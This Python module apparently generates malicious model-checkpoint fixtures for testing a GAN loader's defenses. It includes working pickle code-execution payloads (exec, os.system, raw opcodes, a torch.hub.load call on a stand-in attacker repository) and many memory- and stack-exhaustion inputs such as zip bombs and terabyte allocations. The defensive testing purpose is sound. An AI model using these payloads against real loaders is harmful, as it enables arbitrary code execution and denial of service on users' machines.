"""Writes files made to do harm: to run code, to fill the memory, or to exhaust the stack when they are opened."""

from __future__ import annotations

import io
import pickle
import struct
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch

from writers import nvlabs, rosinality, tensorflow

MILLION = 1_000_000


class Run:
    """Pickles as a call of any function: what an attacker writes."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def touch(canary: Path) -> Run:
    """A call that makes the canary file when it is run."""
    return Run(exec, f"open({str(canary)!r}, 'w').close()")


def system(canary: Path) -> Run:
    import os

    return Run(os.system, f"touch '{canary}'")


def short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def name(path: str) -> bytes:
    module, _, last = path.rpartition(".")
    return short(module) + short(last) + b"\x93"


def number(value: int) -> bytes:
    raw = value.to_bytes(9, "little", signed=True)
    return b"\x8a\x09" + raw


def code_in_a_snapshot(canary: Path) -> bytes:
    return nvlabs.nvlabs_pickle({"G_ema": {"training": touch(canary)}})


def code_in_a_nested_storage(canary: Path) -> bytes:
    stream = io.BytesIO()
    for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}, touch(canary), []):
        pickle.dump(part, stream, protocol=2)
    return pickle.dumps({"G_ema": Run(torch.storage._load_from_bytes, stream.getvalue())})


def code_in_a_nested_zip(canary: Path) -> bytes:
    return pickle.dumps({"G_ema": Run(torch.storage._load_from_bytes, rosinality.torch_file(touch(canary)))})


def code_by_instance_opcode(canary: Path) -> bytes:
    return b"(S'open(%s, \"w\").close()'\nibuiltins\nexec\n." % repr(str(canary)).replace("'", '"').encode()


def code_by_object_opcode(canary: Path) -> bytes:
    return b"(cbuiltins\nexec\nS'open(%s, \"w\").close()'\no." % repr(str(canary)).replace("'", '"').encode()


def code_by_state(canary: Path) -> bytes:
    """BUILD on an object whose class would have been replaced."""
    state = b"}" + short("__class__") + name("builtins.exec") + b"s"
    return b"\x80\x04" + name("collections.OrderedDict") + b")R" + state + b"b."


def code_by_getattr(canary: Path) -> bytes:
    inner = name("builtins.getattr") + name("os.path") + short("os") + b"\x86R"
    return b"\x80\x04" + inner + b"."


def code_by_dotted_name(canary: Path) -> bytes:
    return b"\x80\x04" + short("torch") + short("os.system") + b"\x93" + short(f"touch '{canary}'") + b"\x85R."


def code_by_hub(canary: Path) -> bytes:
    return b"\x80\x04" + name("torch.hub.load") + short("attacker/repository") + short("model") + b"\x86R."


def code_in_a_numpy_object_array(canary: Path) -> bytes:
    array = np.empty(1, dtype=object)
    array[0] = touch(canary)
    return pickle.dumps({"G_ema": array}, protocol=4)


RUNS_CODE: dict[str, Callable[[Path], bytes]] = {
    **{f"exec, protocol {p}": (lambda canary, p=p: pickle.dumps(touch(canary), protocol=p)) for p in range(6)},
    **{f"os.system, protocol {p}": (lambda canary, p=p: pickle.dumps(system(canary), protocol=p)) for p in range(6)},
    "eval": lambda canary: pickle.dumps(Run(eval, f"open({str(canary)!r}, 'w')")),
    "import": lambda canary: pickle.dumps(Run(__import__, "antigravity")),
    "in a snapshot": code_in_a_snapshot,
    "in a nested storage": code_in_a_nested_storage,
    "in a nested zip": code_in_a_nested_zip,
    "in a torch zip": lambda canary: rosinality.torch_file({"g_ema": touch(canary)}),
    "in a torch stream": lambda canary: rosinality.torch_file({"g_ema": touch(canary)}, zipped=False),
    "INST": code_by_instance_opcode,
    "OBJ": code_by_object_opcode,
    "BUILD": code_by_state,
    "getattr": code_by_getattr,
    "dotted name": code_by_dotted_name,
    "torch.hub": code_by_hub,
    "object array": code_in_a_numpy_object_array,
}


def storage_stream(elements: int, content: bytes) -> bytes:
    """An old torch.save stream of one float storage that declares `elements`."""
    stream = io.BytesIO()
    for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}):
        pickle.dump(part, stream, protocol=2)
    stream.write(
        b"\x80\x02(" + b"X\x07\x00\x00\x00storage" + b"ctorch\nFloatStorage\n" + b"X\x01\x00\x00\x000"
        b"X\x03\x00\x00\x00cpu" + number(elements) + b"NtQ."
    )
    pickle.dump(["0"], stream, protocol=2)
    stream.write(struct.pack("<q", elements) + content)
    return stream.getvalue()


def tensor(elements: int, shape: tuple[int, ...], strides: tuple[int, ...], content: bytes) -> bytes:
    """Opcodes of one tensor with any shape over any memory."""
    stream = storage_stream(elements, content)
    sizes, steps = (b"(" + b"".join(number(n) for n in values) + b"t" for values in (shape, strides))
    storage = name("torch.storage._load_from_bytes") + b"B" + struct.pack("<L", len(stream)) + stream + b"\x85R"
    return name("torch._utils._rebuild_tensor_v2") + b"(" + storage + number(0) + sizes + steps + b"\x89Nt" + b"R"


def generator(parameters: bytes) -> bytes:
    """A snapshot whose mapping network has these parameters (opcodes of a dictionary's items)."""
    module = lambda cls, state: (  # noqa: E731
        name(nvlabs.PERSISTENT) + b"}(" + short("class_name") + short(cls) + short("state") + state + b"u\x85R"
    )
    const = tensor(16, (1, 4, 4), (16, 4, 1), bytes(64))
    block = b"}(" + short("_parameters") + b"}(" + short("const") + const + b"u" + b"u"
    synthesis = b"}" + short("_modules") + b"}" + short("b4") + module("SynthesisBlock", block) + b"s" + b"s"
    mapping = b"}" + short("_parameters") + b"}(" + parameters + b"u" + b"s"
    children = (
        b"}(" + short("synthesis") + module("SynthesisNetwork", synthesis)
        + short("mapping") + module("MappingNetwork", mapping) + b"u"
    )  # fmt: skip
    root = module("Generator", b"}" + short("_modules") + children + b"s")
    return b"\x80\x04}" + short("G_ema") + root + b"s."


def zip_of(entries: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for entry, content in entries.items():
            archive.writestr(entry, content)
    return stream.getvalue()


def safetensors_header(header: bytes, content: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header)) + header + content


def many_views() -> bytes:
    """A small memory that 100,000 tensors share: 400 MB when each becomes its own."""
    first = tensor(1000, (1000,), (1,), bytes(4000)) + b"\x94"
    views = b"".join(b"X" + struct.pack("<L", 6) + f"t{i:05d}".encode() + b"h\x00" for i in range(100_000))
    return generator(short("t") + first + views).replace(b"\x94", b"\x94", 1)


def cyclic_modules() -> bytes:
    """A module that contains itself."""
    state = b"}\x94" + short("_modules") + b"}" + short("synthesis") + b"h\x01s" + b"s"
    inner = b"}\x94(" + short("class_name") + short("Generator") + short("state") + state + b"u"
    return b"\x80\x04}" + short("G_ema") + name(nvlabs.PERSISTENT) + inner + b"\x85R" + b"s."


def branching_modules() -> bytes:
    """Modules that hold the next one twice, 40 times over: 2**40 paths."""

    def meta(state: bytes) -> bytes:
        return (
            name(nvlabs.PERSISTENT) + b"}(" + short("class_name") + short("M") + short("state") + state + b"u\x85R\x94"
        )

    content, index = meta(b"}"), 0
    for index in range(40):
        children = b"}(" + short("a") + b"h" + bytes([index]) + short("b") + b"h" + bytes([index]) + b"u"
        content += b"0" + meta(b"}" + short("_modules") + children + b"s")
    children = (
        b"}(" + short("synthesis") + b"h" + bytes([index + 1]) + short("mapping") + b"h" + bytes([index + 1]) + b"u"
    )
    content += b"0" + meta(b"}" + short("_modules") + children + b"s")
    return b"\x80\x04" + content + b"0}" + short("G_ema") + b"h" + bytes([index + 2]) + b"s."


def laughs() -> bytes:
    """Lists of lists of lists: ten thousand million elements in name."""
    content = b"](K\x01" + b"K\x01" * 9 + b"e\x94"
    for index in range(9):
        content += b"0](" + (b"h" + bytes([index])) * 10 + b"e\x94"
    return b"\x80\x04" + content + b"0}" + short("G_ema") + b"h\x09s."


def nested_pickles() -> bytes:
    content = storage_stream(1, b"abcd")
    for _ in range(200):
        call = name("torch.storage._load_from_bytes") + b"B" + struct.pack("<L", len(content)) + content + b"\x85R."
        head = b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
        content = head + b"\x80\x04" + call + pickle.dumps([], 2)
    return content


def zip_pickle(elements: int) -> bytes:
    storage = (
        b"(" + short("storage") + name("torch.FloatStorage") + short("0") + short("cpu") + number(elements) + b"tQ"
    )
    sizes = b"(" + number(elements) + b"t(" + number(1) + b"t"
    weight = name("torch._utils._rebuild_tensor_v2") + b"(" + storage + number(0) + sizes + b"\x89Nt" + b"R"
    return b"\x80\x04}(" + short("input.input") + weight + short("convs.0.conv.weight") + weight + b"u."


def huge_config(size: int = 0) -> bytes:
    import json

    import msgspec

    from ganstudio.networks.config import GeneratorConfig
    from ganstudio.networks.header import Header

    largest = 1 << 16
    config = GeneratorConfig(
        z_dim=largest,
        w_dim=largest,
        block_resolutions=(4, 8),
        channels=(largest, largest),
        mapping_widths=(largest,) * 60,
    )
    text = msgspec.json.encode(Header(format=1, source="x", config=config)).decode()
    text = text.replace(str(largest), str(size)) if size else text
    tensors = {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    return safetensors_header(json.dumps({"__metadata__": {"ganstudio": text}, **tensors}).encode(), bytes(4))


def colliding_memo() -> bytes:
    """Places in the memo that Python hashes to the same: each takes as long as all before it."""
    return b"\x80\x02}" + b"".join(b"p%d\n" % (k * ((1 << 61) - 1) + 1) for k in range(1, 60_000)) + b"."


def small_network():
    from ganstudio.networks.config import GeneratorConfig
    from ganstudio.networks.random_init import random_generator

    config = GeneratorConfig(z_dim=8, w_dim=8, block_resolutions=(4, 8), channels=(4, 4), mapping_widths=(8, 8))
    return random_generator(config, torch.Generator().manual_seed(0))


def lists_of_lists() -> list[object]:
    """A hundred million elements in name, in some hundred bytes: a message with it takes gigabytes."""
    lists: list[object] = [1] * 10
    for _ in range(7):
        lists = [lists] * 10
    return lists


def activation_of_lists() -> bytes:
    record = nvlabs.generator_record(small_network())
    modules = [record]
    while modules:
        state = modules.pop().meta["state"]
        state["activation"] = lists_of_lists()
        modules += state["_modules"].values()
    return nvlabs.nvlabs_pickle({"G_ema": record})


def nonlinearity_of_lists() -> bytes:
    settings = {"nonlinearity": lists_of_lists(), "mapping_nonlinearity": lists_of_lists()}
    generator = tensorflow.generator_network(small_network(), static_kwargs=settings)
    return tensorflow.tensorflow_pickle((generator,) * 3)


def wall_of_a_picture() -> bytes:
    """A few kilobytes that ask for a picture of 32768 x 32768."""
    from ganstudio.networks.checkpoint import checkpoint_of, save_safetensors
    from ganstudio.networks.config import GeneratorConfig
    from ganstudio.networks.random_init import random_generator

    config = GeneratorConfig(
        z_dim=1,
        w_dim=1,
        block_resolutions=tuple(4 << block for block in range(14)),
        channels=(1,) * 14,
        mapping_widths=(1,),
        use_noise=False,
    )
    network = random_generator(config, torch.Generator().manual_seed(0))
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "model.safetensors"
        save_safetensors(checkpoint_of(network), path)
        return path.read_bytes()


FILLS_MEMORY: dict[str, Callable[[], bytes]] = {
    "bytes of a terabyte": lambda: b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b"x.",
    "text of a terabyte": lambda: b"\x80\x04\x8d" + struct.pack("<Q", 1 << 40) + b"x.",
    "bytearray of a terabyte": lambda: b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"x.",
    "frame of a terabyte": lambda: b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"}.",
    "integer of two gigabytes": lambda: b"\x80\x02\x8b" + struct.pack("<L", (1 << 31) - 1) + b"x.",
    "memo index of four thousand million": lambda: b"\x80\x02}r\xff\xff\xff\xff.",
    "memo index in digits": lambda: b"\x80\x02}p99999999999999999999\n.",
    "places in the memo that collide": colliding_memo,
    "lists of lists as an activation": activation_of_lists,
    "lists of lists as a nonlinearity": nonlinearity_of_lists,
    "a picture of a thousand million pixels": wall_of_a_picture,
    "digits without end": lambda: b"\x80\x02L" + b"9" * 60000 + b"L\n.",
    "three million sets": lambda: b"\x80\x04" + b"\x8f" * (3 * MILLION) + b".",
    "tuples a million deep": lambda: b"\x80\x04)" + b"\x85" * MILLION + b".",
    "tuples a million deep as a key": lambda: b"\x80\x04})" + b"\x85" * MILLION + b"Ns.",
    "lists a million deep": lambda: b"\x80\x04]" + b"]" * MILLION + b"a" * MILLION + b".",
    "lists of lists of lists": laughs,
    "a text encoded ten thousand times": lambda: (
        b"\x80\x04" + name("_codecs.encode") + b"\x940" + b"X" + struct.pack("<L", MILLION) + b"x" * MILLION + b"\x940"
        + (b"h\x00h\x01" + short("latin1") + b"\x86R") * 10_000 + b"."
    ),
    "a dictionary copied ten thousand times": lambda: (
        b"\x80\x04" + name("collections.OrderedDict") + b"\x940](" + b"".join(
            number(i) + b"N\x86" for i in range(20_000)) + b"e\x940" + b"h\x00h\x01\x85R" * 10_000 + b"."
    ),
    "a tensor of a terabyte": lambda: generator(short("w_avg") + tensor(1 << 38, (1 << 38,), (1,), b"abcd")),
    "a tensor of a terabyte by stride 0": lambda: generator(short("w_avg") + tensor(1, (1 << 38,), (0,), b"abcd")),
    "a tensor beyond its memory": lambda: generator(short("w_avg") + tensor(4, (2, 4), (4, 1), bytes(16))),
    "a tensor of negative stride": lambda: generator(short("w_avg") + tensor(4, (2,), (-1,), bytes(16))),
    "a hundred thousand views of one memory": many_views,
    "a module inside itself": cyclic_modules,
    "modules of a million million paths": branching_modules,
    "an array of a terabyte": lambda: (
        b"\x80\x04}" + short("G_ema") + name("numpy.core.multiarray._reconstruct") + name("numpy.ndarray")
        + b"K\x00\x85C\x01b\x87R(K\x01(" + number(1 << 38) + b"t" + name("numpy.dtype") + short("f4")
        + b"\x89\x88\x87R\x89C\x04abcdtbs."
    ),
    "pickles inside pickles": nested_pickles,
    "a zip bomb": lambda: zip_of({"a/data.pkl": bytes(300 * MILLION)}, zipfile.ZIP_DEFLATED),
    "a zip of many entries": lambda: zip_of({f"a/{i}": b"" for i in range(100_000)}),
    "a zip whose tensor is short": lambda: zip_of({"a/data.pkl": zip_pickle(1 << 38), "a/data/0": b"abcd"}),
    "safetensors header of a terabyte": lambda: struct.pack("<Q", 1 << 40) + b"{",
    "safetensors tensor of a terabyte": lambda: safetensors_header(
        b'{"a":{"dtype":"F32","shape":[274877906944],"data_offsets":[0,1099511627776]}}', b"abcd"
    ),
    "safetensors of huge sizes": huge_config,
    "safetensors of sizes whose product overflows": lambda: huge_config(1 << 40),
    "safetensors of sizes beyond 64 bits": lambda: huge_config(1 << 70),
}  # fmt: skip
